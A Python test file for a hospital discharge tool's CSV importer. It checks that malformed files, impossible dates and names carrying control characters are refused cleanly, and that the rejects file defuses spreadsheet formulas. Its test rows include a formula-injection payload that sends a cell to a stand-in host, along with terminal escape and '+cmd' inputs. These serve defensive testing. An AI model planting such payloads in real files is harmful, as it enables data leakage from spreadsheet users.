"""``import csv`` with bad input, end to end on SQLite and PostgreSQL: every refusal
names the row and column (or the file), exits 2, prints no traceback and writes
nothing; the rejects file is checked before anything is imported and is safe to open
in a spreadsheet (issue 8, part 4)."""

from __future__ import annotations

import csv
import os
import subprocess
import sys
from datetime import UTC, datetime, time, timedelta
from pathlib import Path

import pytest
from sqlalchemy import Engine, text

from discharge_hub import importer
from discharge_hub.db import Database
from discharge_hub.errors import DomainError
from tests.cli.conftest import run_cli, table_counts
from tests.cli.test_import_cmd import row, write
from tests.conftest import TODAY, valid_nhs
from tests.core_support import db_fingerprint
from tests.test_input_rules import recent_clock_change


def refused_cli(engine: Engine, db_url: str, *args: str) -> str:
    """Run ``import csv`` with ``args``: exit 2, no traceback, nothing written."""
    before = table_counts(engine)
    result = run_cli("import", "csv", *args, "--db", db_url)
    assert result.returncode == 2, (result.stdout, result.stderr)
    assert "Traceback" not in result.stderr
    assert result.stderr.startswith("discharge-hub: ")
    assert table_counts(engine) == before
    return result.stderr


def test_names_that_would_print_wrongly_are_refused_by_row_and_column(
    db_url: str, engine: Engine, tmp_path: Path
) -> None:
    rows = [
        row(0),  # valid, not written either
        row(1, family_name="Ev\x00il"),
        row(2, given_name="Zo\u202eë"),
        row(3, ward="Ward\u200b7"),
        row(4, bed="A1\x1b[2J"),
        row(5, interpreter_language="Pol\tish"),
        row(6, postcode="LE2\u20281AB"),
    ]
    stderr = refused_cli(engine, db_url, str(write(tmp_path / "names.csv", rows)))
    for expected in [
        "6 invalid rows; nothing imported",
        "row 3, family_name: 'Ev\\x00il' contains a NUL byte (U+0000, character 3)",
        "row 4, given_name: ", "bidirectional text control (U+202E",
        "row 5, ward: ", "invisible (zero-width) character (U+200B",
        "row 6, bed: ", "terminal escape sequence (U+001B",
        "row 7, interpreter_language: ", "a tab (U+0009",
        "row 8, postcode: ", "a line break (U+2028",
    ]:  # fmt: skip
        assert expected in stderr


def test_implausible_dates_and_times_that_never_happened_are_refused(
    db_url: str, engine: Engine, tmp_path: Path
) -> None:
    spring = recent_clock_change(3)
    rows = [
        row(1, date_of_birth="01/01/1800"),
        row(2, edd="9999-12-31"),
        row(3, admitted_at=f"{TODAY + timedelta(days=2):%Y-%m-%d} 10:00"),
        row(4, admitted_at=f"{TODAY - timedelta(days=4000):%Y-%m-%d} 10:00"),
        row(5, admitted_at=f"{spring:%d/%m/%Y} 01:30"),
        row(6, discharge_ready_date=str(TODAY + timedelta(days=1))),
    ]
    stderr = refused_cli(engine, db_url, str(write(tmp_path / "dates.csv", rows)))
    for expected in [
        "row 2, date_of_birth: '01/01/1800' is before 01/01/1900: check the year",
        "row 3, edd: '31/12/9999' is more than a year after today",
        "row 4, admitted_at: ", "is in the future",
        "row 5, admitted_at: ", "is more than ten years ago",
        f"row 6, admitted_at: '{spring:%d/%m/%Y} 01:30' does not exist in UK time: the clocks "
        "went forward",
        "row 7, discharge_ready_date: ",
    ]:  # fmt: skip
        assert expected in stderr


def test_the_repeated_october_hour_is_read_as_bst(
    db_url: str, engine: Engine, tmp_path: Path
) -> None:
    autumn = recent_clock_change(10)
    path = write(tmp_path / "autumn.csv", [row(1, admitted_at=f"{autumn:%d/%m/%Y} 01:30")])
    result = run_cli("import", "csv", str(path), "--db", db_url)
    assert result.returncode == 0, result.stderr
    with engine.connect() as conn:
        stored = conn.execute(text("SELECT admitted_at FROM spell")).scalar_one()
    # Stored as naive UTC: 01:30 BST is 00:30 UTC (the second 01:30, GMT, would be 01:30).
    assert str(stored)[:16] == f"{datetime.combine(autumn, time(0, 30), UTC):%Y-%m-%d %H:%M}"


def _fifo(tmp_path: Path) -> Path:
    path = tmp_path / "pipe.csv"
    os.mkfifo(path)
    return path


@pytest.mark.parametrize(
    ("make", "expected"),
    [
        (lambda p: p, "it is a folder, not a CSV file"),  # p: an empty folder
        (_fifo, "it is not a regular file (a pipe or a device)"),
        (lambda p: _bytes(p, "\ufeffnhs_number,family_name\r\n".encode("utf-16")),
         "is UTF-16 text"),
        (lambda p: _bytes(p, _header() + b'9990000018,"O\'Neill,Zo\xc3\xab\r\n'),
         "is not valid CSV (line 2: unexpected end of data)"),
        (lambda p: _bytes(p, _header() + b'9990000018,"O"Neill",Zoe\r\n'),
         "is not valid CSV (line 2: ',' expected after '\"')"),
        (lambda p: _bytes(p, _header() + b'9990000018,"' + b"x" * 200_000 + b'"\r\n'),
         "field larger than field limit"),
        (lambda p: _bytes(p, b"nhs_number,family_name,family_name\r\n"), "repeated column(s)"),
        (lambda p: _bytes(p, b"nhs_number;family_name;given_name\r\n1;2;3\r\n"),
         "separated by semicolons, not commas"),
        (lambda p: _bytes(p, b"\x00\x00\x00\x00"), "wrong header row"),
    ],
    ids=["folder", "fifo", "utf-16", "open-quote", "stray-quote", "huge-field",
         "duplicate-header", "semicolons", "nul-bytes"],
)  # fmt: skip
def test_malformed_files_end_with_one_plain_line(
    sqlite_url: str, tmp_path: Path, make: object, expected: str
) -> None:
    from discharge_hub.db import create_db_engine, resolve_url

    source = make(tmp_path)  # type: ignore[operator]
    eng = create_db_engine(resolve_url(sqlite_url))
    try:
        stderr = refused_cli(eng, sqlite_url, str(source))
    finally:
        eng.dispose()
    assert expected in stderr
    assert len(stderr.strip().splitlines()) == 1


def _header() -> bytes:
    return b"nhs_number,family_name,given_name\r\n"


def _bytes(path: Path, data: bytes) -> Path:
    if path.is_dir():
        path = path / "extract.csv"
    path.write_bytes(data)
    return path


@pytest.mark.parametrize(
    ("target", "expected"),
    [
        ("missing/rejects.csv", "the folder"),
        (".", "is a folder, not a file"),
        ("/dev/full", "is not a regular file"),
    ],
)
def test_an_unwritable_rejects_file_is_refused_before_anything_is_imported(
    db_url: str, engine: Engine, tmp_path: Path, target: str, expected: str
) -> None:
    path = write(tmp_path / "pas.csv", [row(0), row(1, pathway="P9")])
    rejects = target if target.startswith("/") else str(tmp_path / target)
    stderr = refused_cli(engine, db_url, str(path), "--skip-invalid", rejects)
    assert f"--skip-invalid: {rejects}" in stderr or f"--skip-invalid: cannot write {rejects}" in (
        stderr
    )
    assert expected in stderr


def test_a_rejects_file_that_fails_while_writing_leaves_the_database_untouched(
    db: Database, tmp_path: Path
) -> None:
    extract = importer.read_extract(write(tmp_path / "pas.csv", [row(0), row(1, pathway="P9")]))
    before = db_fingerprint(db)

    def disk_full(result: importer.ImportResult) -> None:
        assert result.created == 1 and len(result.rejected) == 1
        raise DomainError("Cannot write rejects.csv: the disk is full. Nothing was written.")

    with pytest.raises(DomainError, match="disk is full"):
        importer.import_extract(db, extract, actor="pas", skip_invalid=True,
                                before_commit=disk_full)  # fmt: skip
    assert db_fingerprint(db) == before


def test_the_rejects_file_neutralises_formulas_and_imports_again_as_it_was(
    db_url: str, engine: Engine, tmp_path: Path
) -> None:
    evil = '=HYPERLINK("http://example.invalid/?"&A1,"Click")'
    rows = [row(0), row(1, family_name=evil, given_name="@SUM(A1)", pathway="P9"),
            row(2, given_name="+1+cmd", bed="-1", pathway="P9")]  # fmt: skip
    rejects = tmp_path / "rejects.csv"
    result = run_cli("import", "csv", str(write(tmp_path / "pas.csv", rows)),
                     "--skip-invalid", str(rejects), "--db", db_url)  # fmt: skip
    assert result.returncode == 0, result.stderr
    raw = rejects.read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK(" in raw and "'@SUM(A1)" in raw and "'+1+cmd" in raw
    assert ",-1," in raw  # a plain number is a value, not a formula
    with rejects.open(encoding="utf-8-sig", newline="") as fh:
        out = list(csv.DictReader(fh))
    assert [r["family_name"][:2] for r in out] == ["'=", "O'"]
    # Corrected in place (the reason column may stay) and imported again: as typed.
    for r in out:
        r["pathway"] = "P1"
    with rejects.open("w", encoding="utf-8-sig", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=list(out[0]))
        w.writeheader()
        w.writerows(out)
    result = run_cli("import", "csv", str(rejects), "--db", db_url)
    assert result.returncode == 0, result.stderr
    with engine.connect() as conn:
        names = dict(
            conn.execute(
                text("SELECT nhs_number, family_name || '|' || given_name FROM patient")
            ).all()
        )
    assert names[valid_nhs(1)] == f"{evil}|@SUM(A1)"
    assert names[valid_nhs(2)] == "O'Neill|+1+cmd"


@pytest.mark.parametrize(
    ("args", "expected"),
    [
        (["db", "set-password", "--db", "postgresql://someone@127.0.0.1/x"],
         "no password given (end of input); nothing stored"),
        (["export", "sitrep", "--date", "2026-01-01", "--out", ""], "--out: no file name given"),
        (["import", "csv", "x.csv", "--skip-invalid", ""], "--skip-invalid: no file name given"),
    ],
    ids=["password-eof", "empty-out", "empty-rejects"],
)  # fmt: skip
def test_command_line_mistakes_end_with_one_plain_line(
    args: list[str], expected: str, tmp_path: Path
) -> None:
    env = {k: v for k, v in os.environ.items() if k != "DISCHARGE_HUB_DB"}
    result = subprocess.run(
        [sys.executable, "-m", "discharge_hub", *args, "--db", str(tmp_path / "x.sqlite3")]
        if args[0] != "db"
        else [sys.executable, "-m", "discharge_hub", *args],
        capture_output=True, text=True, env=env, stdin=subprocess.DEVNULL, cwd=tmp_path,
        timeout=120,
    )  # fmt: skip
    assert result.returncode == 2, result.stderr
    assert "Traceback" not in result.stderr
    assert expected in result.stderr.splitlines()[-1]


def test_a_real_bug_still_gets_its_traceback_in_the_log(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    from discharge_hub import cli

    def broken(path: Path) -> None:
        raise RuntimeError("a bug, not a user's mistake")

    monkeypatch.setattr(importer, "read_extract", broken)
    code = cli.main(["import", "csv", str(tmp_path / "x.csv"), "--db", str(tmp_path / "x.db")])
    assert code == 1
    (record,) = [r for r in caplog.records if r.exc_info]
    assert record.getMessage() == "unexpected failure"
    assert "a bug, not a user's mistake" in str(record.exc_info[1])  # type: ignore[index]
